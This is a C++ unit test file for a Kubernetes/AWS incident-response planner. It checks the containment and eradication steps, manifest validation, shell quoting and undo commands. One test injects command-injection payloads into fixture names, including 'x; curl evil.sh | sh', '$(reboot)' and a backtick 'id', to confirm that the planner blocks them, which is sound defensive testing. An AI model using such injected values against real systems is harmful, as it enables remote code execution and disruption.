// The planner on the fixture incidents: the right targets per phase, valid manifests, names
// checked, scripts that quote every word.
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "command/command.h"
#include "respond/respond.h"
#include "test_paths.h"

namespace eksir::respond {
namespace {

std::string slurp(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

std::string fixture(const std::string& name) {
  return test::source_dir() + "/tests/respond/fixtures/" + name;
}

PlanOptions options() {
  PlanOptions o;
  o.trusted_cidrs = {"10.42.0.0/16"};
  o.base_dir = test::source_dir();
  o.now = parse_time("2026-03-14T10:00:00Z");
  return o;
}

Plan plan_of(const std::string& file, Phase phase, PlanOptions o = options()) {
  if (file == "web-miner.json") o.base_dir = test::source_dir() + "/tests/respond/fixtures";
  PlanResult r = build_plan(slurp(fixture(file)), phase, o);
  EXPECT_TRUE(r.ok()) << r.error;
  return r.plan;
}

const Step* find(const Plan& p, std::string_view id) {
  for (const auto& s : p.steps)
    if (s.id == id) return &s;
  return nullptr;
}

std::vector<std::string> ids(const Plan& p) {
  std::vector<std::string> out;
  for (const auto& s : p.steps) out.push_back(s.id);
  return out;
}

using Argv = std::vector<std::string>;

TEST(RespondPlan, StolenKeyContainTargets) {
  Plan p = plan_of("stolen-key.json", Phase::contain);
  EXPECT_EQ(ids(p), (std::vector<std::string>{
                        "contain/evidence/pod-logs/kube-system/backup-agent",
                        "contain/evidence/pod-spec/kube-system/backup-agent",
                        "contain/evidence/ebs-snapshot/i-0abc1234def567890",
                        "contain/netpol/kube-system/eksir-isolate-backup-agent",
                        "contain/cordon/ip-10-42-11-27.ec2.internal",
                        "contain/drain/ip-10-42-11-27.ec2.internal",
                        "contain/isolation-sg/i-0abc1234def567890",
                        "contain/deactivate-key/AKIARQ4WZT7KHB3D6FXQ",
                        "contain/deactivate-key/AKIARQ4WZT7KM8JY2CVE",
                        "contain/evidence/access-entry-policies/"
                        "arn:aws:iam::111122223333:role/eks-backup-operator",
                        "contain/delete-access-entry/"
                        "arn:aws:iam::111122223333:role/eks-backup-operator",
                        "contain/revoke-sessions/eks-backup-operator",
                        "contain/sa-delete/default/backup-sa",
                        "contain/revoke-sg-rules/sg-0a7b9c1d2e3f40516",
                        "contain/restrict-endpoint/prod-payments",
                    }));
  const Step* np = find(p, "contain/netpol/kube-system/eksir-isolate-backup-agent");
  ASSERT_TRUE(np);
  EXPECT_EQ(np->command.argv, (Argv{"kubectl", "apply", "--filename=-"}));
  EXPECT_NE(np->command.stdin_text.find("matchLabels:\n      app: backup-agent\n"),
            std::string::npos)
      << np->command.stdin_text;
  EXPECT_NE(np->warning.find("picks only the affected pod"), std::string::npos);
  EXPECT_EQ(np->undo.argv, (Argv{"kubectl", "delete", "networkpolicy", "--namespace=kube-system",
                                 "--ignore-not-found", "--", "eksir-isolate-backup-agent"}));

  // Object names after "--", options as --flag=value.
  EXPECT_EQ(find(p, "contain/cordon/ip-10-42-11-27.ec2.internal")->command.argv,
            (Argv{"kubectl", "cordon", "--", "ip-10-42-11-27.ec2.internal"}));
  const Step* drain = find(p, "contain/drain/ip-10-42-11-27.ec2.internal");
  EXPECT_EQ(
      drain->command.argv,
      (Argv{"kubectl", "drain", "--ignore-daemonsets", "--delete-emptydir-data", "--timeout=300s",
            "--pod-selector=app!=backup-agent", "--", "ip-10-42-11-27.ec2.internal"}));
  EXPECT_EQ(find(p, "contain/deactivate-key/AKIARQ4WZT7KHB3D6FXQ")->command.argv,
            (Argv{"aws", "iam", "update-access-key", "--user-name=ci-deployer",
                  "--access-key-id=AKIARQ4WZT7KHB3D6FXQ", "--status=Inactive", "--region=us-east-1",
                  "--output=json"}));
  const Step* rs = find(p, "contain/revoke-sessions/eks-backup-operator");
  EXPECT_EQ(rs->command.argv[5].rfind("--policy-document={", 0), 0u) << rs->command.argv[5];
  EXPECT_NE(rs->command.argv[5].find("\"aws:TokenIssueTime\":\"2026-03-14T10:00:00Z\""),
            std::string::npos)
      << rs->command.argv[5];
  EXPECT_EQ(find(p, "contain/revoke-sg-rules/sg-0a7b9c1d2e3f40516")->command.argv,
            (Argv{"aws", "ec2", "revoke-security-group-ingress", "--group-id=sg-0a7b9c1d2e3f40516",
                  "--security-group-rule-ids", "sgr-0e1f2a3b4c5d6e7f8", "sgr-0f2a3b4c5d6e7f809",
                  "--region=us-east-1", "--output=json"}));
  const Step* ep = find(p, "contain/restrict-endpoint/prod-payments");
  EXPECT_EQ(ep->command.argv,
            (Argv{"aws", "eks", "update-cluster-config", "--name=prod-payments",
                  "--resources-vpc-config=endpointPublicAccess=true,publicAccessCidrs=10.42.0.0/16",
                  "--region=us-east-1", "--output=json"}));
  EXPECT_EQ(ep->capture.argv[2], "describe-cluster");
  EXPECT_TRUE(ep->blocked.empty());
  for (const auto& s : p.steps)
    for (const auto& a : s.command.argv)
      EXPECT_NE(a, "update-security-group-rule-descriptions-ingress");
  // Without an isolation group the node step is blocked, and says why.
  EXPECT_NE(find(p, "contain/isolation-sg/i-0abc1234def567890")->blocked.find("--isolation-sg"),
            std::string::npos);
  // Evidence before any change.
  EXPECT_EQ(p.steps[0].kind, "evidence");
  EXPECT_EQ(p.steps[2].command.argv[2], "create-snapshots");
}

TEST(RespondPlan, StolenKeyEradicateTargets) {
  PlanOptions o = options();
  o.gatekeeper = true;
  Plan p = plan_of("stolen-key.json", Phase::eradicate, o);
  for (const char* id :
       {"eradicate/delete-pod/kube-system/backup-agent",
        "eradicate/delete-clusterrolebinding/backup-sa-admin",
        "eradicate/delete-serviceaccount/default/backup-sa",
        "eradicate/delete-access-entry/arn:aws:iam::111122223333:role/eks-backup-operator",
        "eradicate/delete-role/eks-backup-operator", "eradicate/delete-key/AKIARQ4WZT7KHB3D6FXQ",
        "eradicate/delete-key/AKIARQ4WZT7KM8JY2CVE",
        "eradicate/terminate-instance/i-0abc1234def567890",
        "eradicate/enable-logging/prod-payments", "eradicate/pod-security/kube-system",
        "eradicate/gatekeeper/psp-privileged-container"})
    EXPECT_TRUE(find(p, id)) << id;
  EXPECT_EQ(find(p, "eradicate/delete-clusterrolebinding/backup-sa-admin")->command.argv,
            (Argv{"kubectl", "delete", "clusterrolebinding", "--ignore-not-found", "--",
                  "backup-sa-admin"}));
  const Step* logging = find(p, "eradicate/enable-logging/prod-payments");
  EXPECT_EQ(logging->command.argv[4].rfind("--logging={", 0), 0u);
  EXPECT_NE(logging->command.argv[4].find("\"audit\""), std::string::npos);
  // kube-system is labelled warn/audit only: enforcing would stop the EKS add-ons.
  const Step* psa = find(p, "eradicate/pod-security/kube-system");
  EXPECT_EQ(psa->command.stdin_text.find("enforce"), std::string::npos);
  EXPECT_NE(psa->command.stdin_text.find("pod-security.kubernetes.io/warn: restricted"),
            std::string::npos);
}

TEST(RespondPlan, WebMinerNarrowestSelectorAndController) {
  Plan p = plan_of("web-miner.json", Phase::contain);
  const Step* np = find(p, "contain/netpol/shop/eksir-isolate-web-5d8f7c9b6d-x2k4p");
  ASSERT_TRUE(np) << ::testing::PrintToString(ids(p));
  // Every label is shared by the other replica: the fewest labels, and the warning names it.
  EXPECT_NE(np->command.stdin_text.find("matchLabels:\n      app: web\n"), std::string::npos)
      << np->command.stdin_text;
  EXPECT_NE(np->warning.find("shop/web-5d8f7c9b6d-q9m7r"), std::string::npos) << np->warning;
  EXPECT_TRUE(find(p, "contain/cordon/ip-10-8-3-14.eu-west-1.compute.internal"));
  EXPECT_FALSE(find(p, "contain/restrict-endpoint/shop-prod"));  // no credential involved

  // The Deployment existed before the incident (nothing shows the attacker created it): the
  // compromised replica goes alone, and its ReplicaSet replaces it from the trusted template.
  Plan e = plan_of("web-miner.json", Phase::eradicate);
  EXPECT_FALSE(find(e, "eradicate/delete-deployment/shop/web"));
  const Step* del = find(e, "eradicate/delete-pod/shop/web-5d8f7c9b6d-x2k4p");
  ASSERT_TRUE(del) << ::testing::PrintToString(ids(e));
  EXPECT_EQ(del->command.argv, (Argv{"kubectl", "delete", "pod", "--namespace=shop",
                                     "--ignore-not-found", "--", "web-5d8f7c9b6d-x2k4p"}));
  EXPECT_EQ(del->capture.argv, (Argv{"kubectl", "get", "pod", "--namespace=shop", "--output=yaml",
                                     "--", "web-5d8f7c9b6d-x2k4p"}));
  EXPECT_NE(del->action.find("Deployment web is not the attacker's"), std::string::npos)
      << del->action;
  EXPECT_NE(find(e, "eradicate/pod-security/shop")
                ->command.stdin_text.find("pod-security.kubernetes.io/enforce: baseline"),
            std::string::npos);
}

TEST(RespondPlan, BenignLowHasNothingToContain) {
  for (Phase ph : {Phase::contain, Phase::eradicate, Phase::recover}) {
    Plan p = plan_of("benign-low.json", ph);
    EXPECT_TRUE(p.steps.empty()) << phase_name(ph);
    ASSERT_FALSE(p.notes.empty());
    EXPECT_NE(p.notes.front().find("nothing to"), std::string::npos) << p.notes.front();
  }
}

TEST(RespondPlan, EveryManifestOfEveryScenarioValidates) {
  std::string schemas = test::shared_dir() + "/schemas";
  int manifests = 0;
  for (const char* file : {"stolen-key.json", "web-miner.json", "benign-low.json"})
    for (Phase ph : {Phase::contain, Phase::eradicate, Phase::recover}) {
      PlanOptions o = options();
      o.gatekeeper = true;
      Plan p = plan_of(file, ph, o);
      for (const auto& s : p.steps) {
        if (s.manifest_json.empty()) continue;
        ++manifests;
        auto problems = validate_manifest(s.manifest_json, schemas);
        EXPECT_TRUE(problems.empty()) << s.id << ": " << ::testing::PrintToString(problems);
      }
    }
  EXPECT_GE(manifests, 6);
}

TEST(RespondPlan, ValidatorRejectsBadManifests) {
  std::string schemas = test::shared_dir() + "/schemas";
  EXPECT_FALSE(
      validate_manifest(
          R"({"apiVersion":"networking.k8s.io/v1","kind":"NetworkPolicy","metadata":{"name":"x","namespace":"a"},"spec":{"podSelectr":{}}})",
          schemas)
          .empty());
  EXPECT_FALSE(
      validate_manifest(
          R"({"apiVersion":"v1","kind":"ServiceAccount","metadata":{"name":"Bad_Name","namespace":"a"}})",
          schemas)
          .empty());
  EXPECT_FALSE(
      validate_manifest(
          R"({"apiVersion":"constraints.gatekeeper.sh/v1beta1","kind":"K8sPSPPrivilegedContainer","metadata":{"name":"p"},"spec":{"excludedNamespaces":["kube-system"],"parameters":{"exemptImages":"x"}}})",
          schemas)
          .size() < 2);
  EXPECT_TRUE(
      validate_manifest(
          R"({"apiVersion":"v1","kind":"Namespace","metadata":{"name":"shop","labels":{"pod-security.kubernetes.io/enforce":"baseline"}}})",
          schemas)
          .empty());
}

TEST(RespondPlan, NamesFromEvidenceAreChecked) {
  std::string doc = slurp(fixture("stolen-key.json"));
  auto replace = [&](const std::string& from, const std::string& to) {
    size_t at = doc.find(from);
    ASSERT_NE(at, std::string::npos);
    doc.replace(at, from.size(), to);
  };
  replace("\"name\": \"backup-agent\"", "\"name\": \"x; curl evil.sh | sh\"");
  replace("\"app\": \"backup-agent\"", "\"app\": \"$(reboot)\"");
  replace("\"user\": \"ci-deployer\"", "\"user\": \"ci deployer`id`\"");
  PlanResult r = build_plan(doc, Phase::contain, options());
  ASSERT_TRUE(r.ok());
  for (const auto& s : r.plan.steps) {
    for (const auto* c : {&s.command, &s.capture, &s.undo}) {
      for (const auto& a : c->argv) {
        EXPECT_EQ(a.find("curl"), std::string::npos) << s.id;
        EXPECT_EQ(a.find("`"), std::string::npos) << s.id;
      }
      EXPECT_EQ(c->stdin_text.find("reboot"), std::string::npos) << s.id;
    }
  }
  // Not left out: blocked, saying which value failed which rule.
  const Step* logs = find(r.plan, "contain/evidence/pod-logs/kube-system/x; curl evil.sh | sh");
  ASSERT_TRUE(logs) << ::testing::PrintToString(ids(r.plan));
  EXPECT_TRUE(logs->command.empty());
  EXPECT_NE(logs->blocked.find("Pod name \"x; curl evil.sh | sh\" is not a valid Kubernetes object "
                               "name (DNS-1123 subdomain): holds ';'"),
            std::string::npos)
      << logs->blocked;
  const Step* key = find(r.plan, "contain/deactivate-key/AKIARQ4WZT7KHB3D6FXQ");
  EXPECT_NE(key->blocked.find("--user-name \"ci deployer`id`\" is not a valid IAM user name"),
            std::string::npos)
      << key->blocked;
  EXPECT_TRUE(key->command.empty());
}

TEST(RespondPlan, BadIncidentIsAnErrorNotACrash) {
  for (const char* text :
       {"", "[]", "{\"schema\":\"other\"}", "{\"schema\":\"eksir.incident/1\"}",
        "{\"schema\":\"eksir.incident/"
        "1\",\"incident\":{\"affected\":[1,\"x\",{\"kind\":\"pod\",\"attributes\":7}]}}"}) {
    PlanResult r = build_plan(text, Phase::contain, options());
    (void)r;
  }
  EXPECT_FALSE(build_plan("{", Phase::contain, options()).ok());
}

TEST(RespondPlan, ShellQuotingAndScript) {
  using command::shell_quote;
  EXPECT_EQ(shell_quote("sg-0a7b9c1d2e3f40516"), "sg-0a7b9c1d2e3f40516");
  EXPECT_EQ(shell_quote("a b"), "'a b'");
  EXPECT_EQ(shell_quote("it's"), "'it'\\''s'");
  EXPECT_EQ(shell_quote(""), "''");
  EXPECT_EQ(shell_quote("$(id)"), "'$(id)'");

  Plan p = plan_of("stolen-key.json", Phase::contain);
  std::string script = plan_script(p);
  std::string dir = test::temp_dir();
  std::ofstream(dir + "/plan.sh") << script;
  EXPECT_EQ(std::system(("bash -n " + dir + "/plan.sh").c_str()), 0) << script;
  EXPECT_NE(script.find("<<'EKSIR_MANIFEST'"), std::string::npos);
  EXPECT_NE(script.find("'--policy-document={\"Statement\""), std::string::npos);
  EXPECT_NE(plan_json(p).find("\"schema\": \"eksir.plan/1\""), std::string::npos);
  EXPECT_NE(plan_text(p).find("BLOCKED"), std::string::npos);
}

TEST(RespondPlan, UndoFromCapturedSettings) {
  Plan p = plan_of("stolen-key.json", Phase::contain);
  const Step* ep = find(p, "contain/restrict-endpoint/prod-payments");
  Command undo = concrete_undo(
      *ep,
      R"({"cluster":{"resourcesVpcConfig":{"endpointPublicAccess":true,"publicAccessCidrs":["0.0.0.0/0","192.0.2.0/24"]}}})");
  EXPECT_EQ(undo.argv,
            (Argv{"aws", "eks", "update-cluster-config", "--name=prod-payments",
                  "--resources-vpc-config=endpointPublicAccess=true,publicAccessCidrs=0.0.0.0/0,"
                  "192.0.2.0/24",
                  "--region=us-east-1", "--output=json"}));
  EXPECT_TRUE(concrete_undo(*ep, "not json").empty());
  const Step* cordon = find(p, "contain/cordon/ip-10-42-11-27.ec2.internal");
  EXPECT_TRUE(concrete_undo(*cordon, "true").empty());  // already cordoned: leave it so
  EXPECT_EQ(concrete_undo(*cordon, "").argv,
            (Argv{"kubectl", "uncordon", "--", "ip-10-42-11-27.ec2.internal"}));
  PlanOptions o = options();
  o.isolation_sg = "sg-0aaaaaaaaaaaaaaaa";
  Plan p2 = plan_of("stolen-key.json", Phase::contain, o);
  const Step* iso = find(p2, "contain/isolation-sg/i-0abc1234def567890");
  EXPECT_TRUE(iso->blocked.empty());
  Command back = concrete_undo(
      *iso,
      R"({"Reservations":[{"Instances":[{"SecurityGroups":[{"GroupId":"sg-0123456789abcdef0"},{"GroupId":"sg-0fedcba9876543210"}]}]}]})");
  EXPECT_EQ(back.argv,
            (Argv{"aws", "ec2", "modify-instance-attribute", "--instance-id=i-0abc1234def567890",
                  "--groups", "sg-0123456789abcdef0", "sg-0fedcba9876543210", "--region=us-east-1",
                  "--output=json"}));
  // A captured value that breaks its rule leaves no undo rather than an unchecked one.
  EXPECT_TRUE(
      concrete_undo(
          *iso, R"({"Reservations":[{"Instances":[{"SecurityGroups":[{"GroupId":"--all"}]}]}]})")
          .empty());
  EXPECT_TRUE(
      concrete_undo(
          *ep,
          R"({"cluster":{"resourcesVpcConfig":{"endpointPublicAccess":true,"publicAccessCidrs":["0.0.0.0/0 --x"]}}})")
          .empty());
}

}  // namespace
}  // namespace eksir::respond
